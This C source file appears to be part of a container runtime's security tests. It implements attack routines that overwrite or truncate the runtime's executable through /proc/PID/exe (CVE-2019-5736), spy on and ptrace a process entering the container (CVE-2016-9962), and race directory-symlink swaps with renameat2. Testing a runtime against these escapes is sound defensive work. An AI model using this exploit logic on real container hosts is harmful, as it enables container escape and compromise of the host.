/* SPDX-License-Identifier: Apache-2.0 */
#define _GNU_SOURCE
#include "attack.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

#define KEEPER "airplant-keeper"

/* Whoever runs us closes our input when it is done. */
static int finished(void)
{
	struct pollfd input = { .fd = 0, .events = POLLIN };

	return poll(&input, 1, 0) > 0;
}

static int each_process(int (*look)(const char *pid))
{
	struct dirent *entry;
	DIR *proc = opendir("/proc");
	int count = 0;

	while (proc && (entry = readdir(proc)))
		if (*entry->d_name >= '1' && *entry->d_name <= '9' && atoi(entry->d_name) != getpid())
			count += look(entry->d_name);
	if (proc)
		closedir(proc);
	return count;
}

static int link_holds(const char *pid, const char *name, const char *word)
{
	char path[300], link[300];
	ssize_t size;

	snprintf(path, sizeof path, "/proc/%s/%s", pid, name);
	size = readlink(path, link, sizeof link - 1);
	if (size < 0)
		return 0;
	link[size] = 0;
	return strstr(link, word) != NULL;
}

/* Opens the executable of another process for writing, and writes, if it is the keeper's (CVE-2019-5736). */
static int overwrite(const char *pid)
{
	char path[300];
	int written = 0, fd;

	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	for (int i = 0; i < 2; i++) {
		fd = open(path, i ? O_RDWR : O_WRONLY | O_APPEND);
		if (fd < 0)
			continue;
		if (link_holds(pid, "exe", KEEPER) && (write(fd, "#!", 2) == 2 || ftruncate(fd, 0) == 0))
			written = 1;
		close(fd);
	}
	return written;
}

int attack_overwrite(char **args)
{
	long rounds = 0, written = 0;

	(void)args;
	printf("ready\n");
	fflush(stdout);
	for (; !finished(); rounds++)
		written += each_process(overwrite);
	printf("rounds %ld written %ld\n", rounds, written);
	return 0;
}

static int maps_hold_keeper(const char *pid)
{
	char path[300], text[4096];
	ssize_t size;
	int fd;

	snprintf(path, sizeof path, "/proc/%s/maps", pid);
	fd = open(path, O_RDONLY);
	size = fd < 0 ? -1 : read(fd, text, sizeof text - 1);
	if (fd >= 0)
		close(fd);
	if (size <= 0)
		return 0;
	text[size] = 0;
	return strstr(text, KEEPER) != NULL;
}

/* Sockets, namespaces and memory of the keeper; the programs that are run here have pipes and ordinary files. */
static int has_foreign_descriptor(const char *pid)
{
	static const char *const foreign[] = { "socket:", "anon_inode:", "memfd:", ":[", "(deleted)" };
	char path[300], name[32];
	struct dirent *entry;
	DIR *directory;
	int found = 0;

	snprintf(path, sizeof path, "/proc/%s/fd", pid);
	directory = opendir(path);
	while (directory && (entry = readdir(directory))) {
		snprintf(name, sizeof name, "fd/%.20s", entry->d_name);
		for (size_t i = 0; i < sizeof foreign / sizeof *foreign; i++)
			found += !link_holds(pid, name, "pipe:") && link_holds(pid, name, foreign[i]);
	}
	if (directory)
		closedir(directory);
	return found > 0;
}

static int trace(const char *pid)
{
	int traced = atoi(pid), keepers;

	if (traced == 1 || ptrace(PTRACE_SEIZE, traced, 0, 0) < 0)
		return 0;
	keepers = link_holds(pid, "exe", KEEPER);
	ptrace(PTRACE_INTERRUPT, traced, 0, 0);
	waitpid(traced, NULL, __WALL);
	ptrace(PTRACE_DETACH, traced, 0, 0);
	return keepers;
}

/* Memory, descriptors, root and trace of a process that is on its way into the container (CVE-2016-9962). */
static int spy(const char *pid)
{
	int found = 0;

	if (maps_hold_keeper(pid))
		found += printf("maps ");
	if (link_holds(pid, "exe", KEEPER))
		found += printf("exe ");
	if (has_foreign_descriptor(pid))
		found += printf("descriptors ");
	if (trace(pid))
		found += printf("trace ");
	return found > 0;
}

int attack_spy(char **args)
{
	long rounds = 0, found = 0;

	(void)args;
	printf("ready\n");
	fflush(stdout);
	for (; !finished(); rounds++)
		found += each_process(spy);
	printf("rounds %ld found %ld\n", rounds, found);
	return 0;
}

/* Exchanges two names as fast as it can: a directory and a link in its place. */
int attack_swap(char **args)
{
	long rounds = 0;

	printf("ready\n");
	fflush(stdout);
	for (; (rounds & 63) || !finished(); rounds++)
		renameat2(AT_FDCWD, args[0], AT_FDCWD, args[1], RENAME_EXCHANGE);
	printf("rounds %ld\n", rounds);
	return 0;
}
